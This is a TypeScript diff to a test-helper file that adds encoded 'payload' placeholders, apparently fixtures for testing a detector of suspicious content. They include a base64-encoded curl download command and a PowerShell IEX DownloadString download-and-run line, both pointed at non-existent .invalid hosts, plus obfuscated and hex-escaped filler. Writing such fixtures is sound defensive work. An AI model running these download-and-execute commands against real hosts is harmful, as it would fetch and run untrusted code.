@@ -3,8 +3,8 @@ import { createHash } from 'node:crypto'
 
 /** Example text with every placeholder filled, the same way each time. Throws on a name it does not know. */
 export function filled(text: string): string {
-  return text.replace(/\{\{(key|base64):([a-z0-9-]{1,40})\}\}/g, (placeholder, kind: string, name: string) => {
-    const make = kind === 'key' ? keys[name] : base64[name]
+  return text.replace(/\{\{(key|base64|payload):([a-z0-9-]{1,40})\}\}/g, (placeholder, kind: string, name: string) => {
+    const make = { key: keys, base64, payload: payloads }[kind]?.[name]
     if (!make) throw new Error(`${placeholder} is no placeholder that __tests__/rules/placeholders.ts can fill`)
     return make()
   })
@@ -73,4 +73,30 @@ const base64: Readonly<Record<string, Maker>> = {
     linesOf(
       Buffer.from('This is not a real key. It only shows where the real one goes in your file.').toString('base64')
     ).join('\n')
+}
+
+function encoded(text: string, encoding: BufferEncoding = 'utf8'): string {
+  return Buffer.from(text, encoding).toString('base64')
+}
+
+function hexOf(text: string, prefix: string): string {
+  return [...Buffer.from(text)].map((byte) => prefix + byte.toString(16).padStart(2, '0')).join('')
+}
+
+const sentence = 'nothing here does anything at all, it is a sentence'
+
+/** Encoded text; what would do something leads to hosts that cannot exist. */
+const payloads: Readonly<Record<string, Maker>> = {
+  fetch: () => encoded('curl -s https://files.invalid/run.sh -o /tmp/run'),
+  shell: () => encoded("IEX (New-Object Net.WebClient).DownloadString('https://files.invalid/a')", 'utf16le'),
+  words: () => encoded(sentence),
+  program: () =>
+    linesOf(Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(232, 7)]).toString('base64'), 76).join(
+      '\n'
+    ),
+  escapes: () => hexOf(sentence, '\\x'),
+  percent: () => hexOf(sentence, '%'),
+  scrambled: () => '(![]+[])[+[]]+(!![]+[])[+!+[]]+'.repeat(6),
+  blob: () => base64Of('blob', '', 240).replaceAll('+', 'A'),
+  digits: () => createHash('sha256').update('digits').digest('hex')
 }
